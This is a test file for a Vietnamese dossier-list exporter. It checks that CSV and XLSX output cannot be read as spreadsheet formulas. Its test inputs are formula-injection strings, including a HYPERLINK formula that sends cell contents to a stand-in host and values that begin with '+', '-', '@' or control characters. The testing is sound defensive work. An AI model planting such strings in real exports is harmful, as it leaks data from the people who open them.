import { Readable } from "node:stream";
import { describe, expect, it } from "vitest";
import type { ListFormat, ListOrder } from "../../src/conversation/list-orders.ts";
import { runIdOf } from "../../src/domain/statistics/figure-run.ts";
import type { ListedDossier } from "../../src/domain/statistics/report-source.ts";
import type { Day } from "../../src/domain/vietnam-time.ts";
import { cleanCell } from "../../src/imports/clean-cell.ts";
import { csvRows } from "../../src/imports/csv-table.ts";
import { dossierListFile } from "../../src/reports/dossier-list-file.ts";
import { createWording } from "../../src/wording/wording.ts";
import { hasLibreOffice, openedInLibreOffice } from "../support/libre-office.ts";
import { sheetsOf } from "../support/read-report.ts";
import { someFigures } from "../support/some-figures.ts";

const speech = { say: createWording(), language: "vi" } as const;
const figures = someFigures();
const run = runIdOf(figures);
/** Each begins as spreadsheets know formulas to begin, or has what tears a row apart. */
const hostile = [
  `=HYPERLINK("http://x/?"&A1;"xem")`,
  "+84 900 000 001",
  "-1+2",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  `"ngoặc", phẩy; và\ndòng`,
];
const dossiers = hostile.map((text, at): ListedDossier => ({
  code: `H57.16-210101-${String(at).padStart(4, "0")}`,
  procedureName: text,
  field: text,
  unitName: text,
  mode: "online",
  receivedOn: "2021-01-04" as Day,
  dueOn: null,
  resolvedOn: null,
  outcome: "open",
}));

async function written(format: ListFormat, total = dossiers.length): Promise<Uint8Array> {
  const question: ListOrder["question"] = {
    period: figures.period,
    now: new Date("2021-03-15T02:00:00Z"),
    measure: "open",
  };
  const order: ListOrder = { format, question, scope: "toàn cơ quan", total, language: "vi" };
  return await dossierListFile(order, { figures, dossiers }, speech);
}

/** What is left of a text once a reader has opened a cell: our imports compose and trim what they read. */
const texts = hostile.map((text) => text.trim());

describe("a list of dossiers as CSV", () => {
  it("begins no cell as a formula, and whoever reads it as our imports do finds each text unharmed", async () => {
    const bytes = Buffer.from(await written("csv"));
    const cells: string[][] = [];
    for await (const rows of csvRows(Readable.from([bytes]), ","))
      cells.push(...rows.filter(({ line }) => line > 1).map((row) => row.cells));
    expect(cells).toHaveLength(dossiers.length);
    for (const [at, row] of cells.entries()) {
      expect(row.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
      for (const column of [2, 3, 4]) expect(cleanCell(row[column]!)).toBe(texts[at]);
      expect(row.slice(-2)).toEqual(["14/03/2021", run]);
    }
  });
});

describe("a list of dossiers as a workbook", () => {
  it("keeps each text to the letter, none of them a formula, and says as of when under which number", async () => {
    const [sheet] = await sheetsOf(await written("xlsx"));
    expect(sheet!.rows[1]![0]).toBe(`7 hồ sơ. Số liệu đến hết ngày 14/03/2021. Mã số liệu ${run}.`);
    for (const [at, text] of hostile.entries())
      expect(sheet!.rows[3 + at]!.slice(2, 5)).toEqual([text, text, text]);
    expect([...sheet!.cells!.values()].filter(({ formula }) => formula !== undefined)).toEqual([]);
  });

  it("says so when the dossiers have become more or fewer since they were asked for", async () => {
    const [sheet] = await sheetsOf(await written("xlsx", 9));
    expect(sheet!.rows[1]![0]).toContain("Lúc hỏi có 9 hồ sơ");
  });
});

describe("LibreOffice", () => {
  it("opens both with every text as it is and works nothing out", async ({ skip }) => {
    if (!hasLibreOffice()) skip("NO LIBREOFFICE ON THIS MACHINE: the lists were only read back here.");
    const [csv] = await sheetsOf(openedInLibreOffice("list.csv", await written("csv")));
    const [xlsx] = await sheetsOf(openedInLibreOffice("list.xlsx", await written("xlsx")));
    const formulas = [csv!, xlsx!].flatMap(({ cells }) => [...cells!.values()].map(({ formula }) => formula));
    expect(formulas.filter((formula) => formula !== undefined)).toEqual([]);
    for (const [at, text] of texts.entries()) {
      expect(cleanCell(String(csv!.rows[1 + at]![2]))).toBe(text);
      expect(String(xlsx!.rows[3 + at]![2]).trim()).toBe(text);
    }
  }, 90_000);
});
